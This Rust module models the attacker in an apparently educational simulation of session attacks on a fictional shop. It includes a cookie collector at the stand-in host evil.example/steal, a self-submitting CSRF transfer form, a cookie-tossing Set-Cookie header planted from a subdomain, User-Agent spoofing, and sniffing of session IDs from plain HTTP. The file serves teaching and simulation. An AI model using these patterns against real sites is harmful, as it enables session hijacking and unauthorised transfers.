//! The attacker: what they know, the sites they control, and how they turn
//! what they saw into session IDs to try.
//!
//! The attacker has no access to the shop's store. They learn IDs only from
//! bytes they really receive: plain HTTP read off the victim's network,
//! `document.cookie` sent by a script they injected, IDs the shop issued to
//! them. Their requests go through the same server code as anyone's.
//!
//! - `prediction`: how they predict IDs, in the scenarios and in the lab.

use crate::engine::browser::script::Script;
use crate::engine::browser::Browser;
use crate::engine::clock::SimTime;
use crate::engine::http::{cookie_header, form, HttpRequest, HttpResponse, StatusCode};
use crate::engine::network::{ATTACKER_IP, MOST_COMMON_USER_AGENT, VICTIM_IP};
use crate::engine::server::id_generator::SessionId;
use crate::engine::url::Url;
use serde::{Deserialize, Serialize};

mod prediction;

pub use prediction::{
    guess_ids, hashed_counter_of, predict_next, IdGuesses, NextIdPrediction, HASH_SEARCH_LIMIT,
};

/// The attacker's own site.
pub const EVIL_HOST: &str = "evil.example";
/// A subdomain of the shop's host that the attacker controls (a user blog).
pub const SIBLING_HOST: &str = "blog.shop.example";
/// Where stolen cookies are sent.
pub const COLLECTOR_URL: &str = "https://evil.example/steal";
/// The CSRF page.
pub const PRIZE_URL: &str = "https://evil.example/prize";
/// The path the tossed cookie is set for: the login form's, so that it
/// goes first exactly where the victim logs in.
pub const TOSS_PATH: &str = "/login";
/// The cookie-tossing page.
pub const TOSS_URL: &str = "http://blog.shop.example/welcome";

/// A page the attacker serves from a site they control.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum EvilPage {
    /// `https://evil.example/prize`: a form that posts a transfer to the
    /// shop and submits itself.
    CsrfTransfer { to: String, amount: u64 },
    /// `http://blog.shop.example/welcome`: a page on a subdomain of the
    /// shop's host whose response sets the shop's session cookie for
    /// `Domain=shop.example` and `Path=/login`. The longer path is what
    /// makes the tossed cookie win over the victim's own (host-only,
    /// `Path=/`): browsers list cookies with longer paths first in the
    /// `Cookie` header (RFC 6265bis §5.8.3), and a server takes the first.
    CookieToss { planted_id: String },
}

/// Where the attacker stands: what they can see, and the address their
/// own requests come from. Part of each attack scenario.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum AttackerPosition {
    /// On the victim's Wi-Fi (the café's): they read every plain message
    /// the victim sends, and behind the café's NAT their requests leave
    /// from the same public IP address as the victim's. `active`: they
    /// also tamper with traffic (block, redirect, strip HTTPS), not only
    /// listen.
    SameWifi { active: bool },
    /// Somewhere else on the Internet, with an IP address of their own.
    Remote,
    /// Controlling a subdomain of the shop's host (`blog.shop.example`);
    /// their own browsing comes from their own IP address.
    Subdomain,
    /// Running a page on a site of their own that the victim opens; their
    /// own browsing comes from their own IP address.
    CrossSitePage,
}

impl AttackerPosition {
    /// The public IP address the attacker's own requests come from.
    pub fn public_ip(self) -> &'static str {
        match self {
            AttackerPosition::SameWifi { .. } => VICTIM_IP,
            AttackerPosition::Remote
            | AttackerPosition::Subdomain
            | AttackerPosition::CrossSitePage => ATTACKER_IP,
        }
    }

    /// Whether they can read the victim's network traffic.
    pub fn on_victims_network(self) -> bool {
        match self {
            AttackerPosition::SameWifi { .. } => true,
            AttackerPosition::Remote
            | AttackerPosition::Subdomain
            | AttackerPosition::CrossSitePage => false,
        }
    }

    /// Where they stand, and what address that gives them, in words.
    pub fn describe(self) -> String {
        match self {
            AttackerPosition::SameWifi { active } => format!(
                "on Alice's café Wi-Fi{}, behind the same NAT router, so her requests leave from the same public IP address as Alice's ({VICTIM_IP})",
                if active { ", able to block and rewrite traffic" } else { "" }
            ),
            AttackerPosition::Remote => {
                format!("on her own machine elsewhere, with her own IP address ({ATTACKER_IP})")
            }
            AttackerPosition::Subdomain => format!(
                "in control of {SIBLING_HOST}, a subdomain of the shop's host, browsing from her own IP address ({ATTACKER_IP})"
            ),
            AttackerPosition::CrossSitePage => format!(
                "behind her own site {EVIL_HOST}, browsing from her own IP address ({ATTACKER_IP})"
            ),
        }
    }
}

/// Where the attacker read the victim's User-Agent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum UserAgentSource {
    /// In a plain HTTP request read off the victim's network.
    SniffedRequest,
    /// In the log of their own site, which the victim's browser contacted
    /// (the collector an injected script sent cookies to, or a page the
    /// victim opened): every request carries its `User-Agent`.
    OwnSiteLog,
    /// Not read anywhere: the most common `User-Agent` (Chrome on Windows),
    /// which any attacker can send and which most victims send too.
    MostCommon,
}

impl UserAgentSource {
    pub fn describe(self) -> &'static str {
        match self {
            UserAgentSource::SniffedRequest => "read in a plain request sniffed off the Wi-Fi",
            UserAgentSource::OwnSiteLog => {
                "read in her own server's log, from the request Alice's browser made to it"
            }
            UserAgentSource::MostCommon => {
                "the most common one on the web (Chrome on Windows: since User-Agent reduction, every such browser sends the same string), set before knowing anything of Alice"
            }
        }
    }
}

/// How the attacker came to know an ID.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum LearnedBy {
    /// Read off the victim's network in a plain HTTP message.
    Sniffed,
    /// Sent home by a script injected into the victim's page.
    StolenByScript,
    /// Issued to the attacker by the shop.
    OwnSession,
    /// Put into the victim's browser by the attacker.
    Planted,
    /// Found by guessing.
    Guessed,
    /// Read in a copy of the shop's session store.
    ReadFromStore,
}

/// A session ID the attacker knows.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KnownId {
    pub name: String,
    pub value: String,
    pub learned_by: LearnedBy,
    pub at: SimTime,
}

/// A link the attacker sent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SentLink {
    pub url: String,
    /// Whether it carries a script for a reflected-XSS page.
    pub carries_script: bool,
}

/// The attacker's state.
#[derive(Debug, Clone)]
pub struct Attacker {
    pub browser: Browser,
    pub known: Vec<KnownId>,
    /// Pages published, by URL, with their content.
    pub pages: Vec<(String, EvilPage)>,
    /// The last link sent to the victim.
    pub outbox: Option<SentLink>,
    pub current_move: String,
    pub position: AttackerPosition,
    /// Where the User-Agent their browser sends was copied from; `None`
    /// while it is their own.
    pub user_agent_from: Option<UserAgentSource>,
    /// Paths of shop pages where they left content (a review) that the
    /// shop will show to later visitors.
    pub stored_content: Vec<String>,
}

impl Default for Attacker {
    fn default() -> Self {
        Attacker::at(AttackerPosition::Remote)
    }
}

impl Attacker {
    /// An attacker standing at `position`. Their browser sends the most
    /// common `User-Agent` from the start: a header costs nothing to set,
    /// and against a shop that binds sessions to it, the likeliest one is
    /// the best guess (it is the victim's here, as it is most people's).
    pub fn at(position: AttackerPosition) -> Self {
        Attacker {
            browser: Browser::new(position.public_ip(), MOST_COMMON_USER_AGENT),
            known: Vec::new(),
            pages: Vec::new(),
            outbox: None,
            current_move: String::new(),
            position,
            user_agent_from: Some(UserAgentSource::MostCommon),
            stored_content: Vec::new(),
        }
    }

    /// Makes their browser send `user_agent` from now on: copying a header
    /// costs nothing. Returns whether anything changed.
    pub fn copy_user_agent(&mut self, user_agent: &str, from: UserAgentSource) -> bool {
        // Reading the victim's own string confirms a guess too: from then
        // on the attacker knows, not guesses.
        let known = self
            .user_agent_from
            .is_some_and(|f| f != UserAgentSource::MostCommon);
        if user_agent.is_empty() || (known && self.browser.user_agent == user_agent) {
            return false;
        }
        self.browser.user_agent = user_agent.to_string();
        self.user_agent_from = Some(from);
        true
    }

    /// The IP address and User-Agent their requests carry, and why, in
    /// words for the narration.
    pub fn identity(&self) -> String {
        let ua = match self.user_agent_from {
            Some(UserAgentSource::MostCommon) => format!(
                "the most common User-Agent ({}), which Alice's browser sends too",
                self.browser.user_agent
            ),
            Some(from) => format!(
                "Alice's User-Agent, {} ({})",
                from.describe(),
                self.browser.user_agent
            ),
            None => format!("her own browser's User-Agent ({})", self.browser.user_agent),
        };
        format!(
            "from {}, with IP address {} and {ua}",
            match self.position {
                AttackerPosition::SameWifi { .. } => "the café Wi-Fi, behind the same NAT as Alice",
                AttackerPosition::Remote
                | AttackerPosition::Subdomain
                | AttackerPosition::CrossSitePage => "her own machine",
            },
            self.browser.ip
        )
    }

    /// Remembers IDs, returning the ones that were new.
    pub fn learn(&mut self, ids: Vec<KnownId>) -> Vec<KnownId> {
        let mut new = Vec::new();
        for id in ids {
            if id.value.is_empty() {
                continue;
            }
            if self
                .known
                .iter()
                .any(|k| k.name == id.name && k.value == id.value && k.learned_by == id.learned_by)
            {
                continue;
            }
            self.known.push(id.clone());
            new.push(id);
        }
        new
    }

    /// Whether the attacker relies on `id` being the victim's session:
    /// learned from the victim, or planted in the victim's browser.
    pub fn relies_on(&self, id: &SessionId) -> bool {
        self.known
            .iter()
            .any(|k| k.value == id.0 && k.learned_by != LearnedBy::OwnSession)
    }

    /// Whether the attacker relies on the remember-me token with this
    /// selector: they learned a copy of it from the victim.
    pub fn relies_on_token(&self, selector: &str) -> bool {
        let prefix = format!("{selector}:");
        self.known
            .iter()
            .any(|k| k.value.starts_with(&prefix) && k.learned_by != LearnedBy::OwnSession)
    }

    /// The IDs worth replaying, newest first: every one that did not come
    /// from the attacker's own visits (those would only log in as themselves).
    pub fn victim_ids(&self) -> Vec<KnownId> {
        let mut out: Vec<KnownId> = Vec::new();
        for k in self.known.iter().rev() {
            if k.learned_by != LearnedBy::OwnSession && !out.iter().any(|o| o.value == k.value) {
                out.push(k.clone());
            }
        }
        out
    }

    /// The session IDs the shop issued to the attacker, oldest first.
    pub fn own_ids(&self) -> Vec<SessionId> {
        self.known
            .iter()
            .filter(|k| k.learned_by == LearnedBy::OwnSession)
            .map(|k| SessionId(k.value.clone()))
            .collect()
    }

    /// Whether `host` is served by the attacker.
    pub fn serves(host: &str) -> bool {
        host == EVIL_HOST || host == SIBLING_HOST
    }

    /// Answers a request to one of the attacker's sites. Returns the
    /// response and any IDs the request delivered to the collector, of the
    /// cookies named in `stealable` (the session cookie's name first).
    pub fn serve(
        &mut self,
        req: &HttpRequest,
        stealable: &[String],
        shop_origin: &str,
        now: SimTime,
    ) -> (HttpResponse, Vec<KnownId>) {
        let session_cookie = stealable.first().map_or("", String::as_str);
        let path = req.url.path();
        if req.url.host() == EVIL_HOST && path == "/steal" {
            let query = req.url.query().map(form::decode_pairs).unwrap_or_default();
            let stolen = form::lookup(&query, "c").unwrap_or("");
            let pairs = cookie_header::parse(stolen);
            let ids = stealable
                .iter()
                .flat_map(|name| {
                    session_ids_in_pairs(&pairs, name)
                        .into_iter()
                        .map(move |value| KnownId {
                            name: name.clone(),
                            value,
                            learned_by: LearnedBy::StolenByScript,
                            at: now,
                        })
                })
                .collect();
            let r = HttpResponse::new(StatusCode::Ok).with_header("Content-Type", "image/gif");
            return (r, ids);
        }
        // Served over http:// and https:// alike: whoever controls a host can
        // get a certificate for it, so an upgraded request finds the page too.
        let wanted = (req.url.host(), req.url.path_and_query());
        let page = self
            .pages
            .iter()
            .rev()
            .find(|(u, _)| Url::parse(u).is_ok_and(|u| (u.host(), u.path_and_query()) == wanted))
            .map(|(_, p)| p.clone());
        let response = match page {
            Some(EvilPage::CsrfTransfer { to, amount }) => HttpResponse::html(format!(
                "<!doctype html><title>You won!</title><h1>You won a prize!</h1>\
                 <form id=\"prize\" method=\"post\" action=\"{shop_origin}/transfer\">\
                 <input type=\"hidden\" name=\"to\" value=\"{to}\">\
                 <input type=\"hidden\" name=\"amount\" value=\"{amount}\"></form>{}",
                Script::SubmitForm {
                    form_id: "prize".into()
                }
                .to_html()
            )),
            Some(EvilPage::CookieToss { planted_id }) => HttpResponse::html(
                "<!doctype html><title>Recipes</title><h1>My favourite recipes</h1>".into(),
            )
            .with_header(
                "Set-Cookie",
                &format!("{session_cookie}={planted_id}; Domain=shop.example; Path={TOSS_PATH}"),
            ),
            None => {
                let mut r = HttpResponse::new(StatusCode::NotFound);
                r.body = "<h1>Not found</h1>".into();
                r
            }
        };
        (response, Vec::new())
    }
}

/// The values of `session_cookie` among name/value pairs.
fn session_ids_in_pairs(pairs: &[(String, String)], session_cookie: &str) -> Vec<String> {
    pairs
        .iter()
        .filter(|(n, v)| n == session_cookie && !v.is_empty())
        .map(|(_, v)| v.clone())
        .collect()
}

/// The `User-Agent` of a plain HTTP request, if the wire shows one.
pub fn user_agent_in_wire(wire: &str) -> Option<&str> {
    wire.split("\r\n")
        .take_while(|line| !line.is_empty())
        .find_map(|line| strip_header(line, "user-agent"))
}

/// Session IDs readable in a plain HTTP message: in its `Cookie` header or
/// its `Set-Cookie` lines.
pub fn session_ids_in_wire(wire: &str, session_cookie: &str) -> Vec<String> {
    let mut ids = Vec::new();
    for line in wire.split("\r\n") {
        if line.is_empty() {
            break; // end of headers: the body is not a header
        }
        if let Some(value) = strip_header(line, "cookie") {
            ids.extend(session_ids_in_pairs(
                &cookie_header::parse(value),
                session_cookie,
            ));
        } else if let Some(value) = strip_header(line, "set-cookie") {
            let first = value.split(';').next().unwrap_or("");
            ids.extend(session_ids_in_pairs(
                &cookie_header::parse(first),
                session_cookie,
            ));
        }
    }
    ids
}

fn strip_header<'a>(line: &'a str, name: &str) -> Option<&'a str> {
    let (n, v) = line.split_once(':')?;
    n.eq_ignore_ascii_case(name).then_some(v.trim())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_ids_from_headers_only() {
        let wire = "GET / HTTP/1.1\r\nHost: shop.example\r\nCookie: theme=dark; sessionid=abc\r\n\r\nsessionid=body";
        assert_eq!(
            session_ids_in_wire(wire, "sessionid"),
            vec!["abc".to_string()]
        );
        let resp = "HTTP/1.1 200 OK\r\nSet-Cookie: sessionid=new; Path=/; HttpOnly\r\n\r\n";
        assert_eq!(
            session_ids_in_wire(resp, "sessionid"),
            vec!["new".to_string()]
        );
    }
}
